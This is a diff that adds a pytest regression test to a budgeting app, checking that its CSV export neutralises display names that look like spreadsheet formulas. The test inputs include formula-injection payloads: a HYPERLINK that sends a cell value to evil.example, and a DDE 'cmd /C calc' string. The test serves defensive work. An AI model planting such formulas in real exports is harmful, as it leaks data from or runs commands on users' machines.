@@ -267,3 +267,42 @@ def test_templates_have_no_inline_style_or_script() -> None:
         text = template.read_text()
         for forbidden in ("style=", "<style", "<script", "onclick"):
             assert forbidden not in text, template
+
+
+@pytest.mark.parametrize(
+    "name",
+    [
+        '=HYPERLINK("http://evil.example/?"&A1,"Klik")',
+        "@SUM(1+1)*cmd|' /C calc'!A0",
+        "+31 6 1234 5678",
+        "-2+3",
+        "Jan;=1+1",
+    ],
+)
+def test_export_neutralises_a_name_that_starts_like_a_formula(
+    client: Client, bakery: Any, name: str
+) -> None:
+    """Issue 14, finding 4: the funder's export wrote a person's display name as it was; a
+    spreadsheet read it as a formula. Now no cell starts one, and llo's reader (restore) gives
+    the name back exactly."""
+    import csv
+    import io
+
+    from llo.core import csvio
+
+    budget = make_budget(
+        services.ensure_funder(bakery),
+        720_000,
+        start=dt.date(YEAR, 1, 1),
+        end=dt.date(YEAR, 12, 31),
+    )
+    employee = make_person(name=name)
+    services.deposit(actor=ACTOR, budget=budget, person=employee, amount_cents=40_000)
+    export = client.get(f"/financier/budgetten/{budget.pk}/export.csv")
+    text = b"".join(export.streaming_content).decode("utf-8-sig")
+    header, row = list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))
+    cell = row[header.index("name")]
+    assert cell != name
+    assert cell.startswith("'") or ";'" in cell
+    assert csvio.restore(cell) == name
+    assert row[header.index("deposited")] == "400,00"
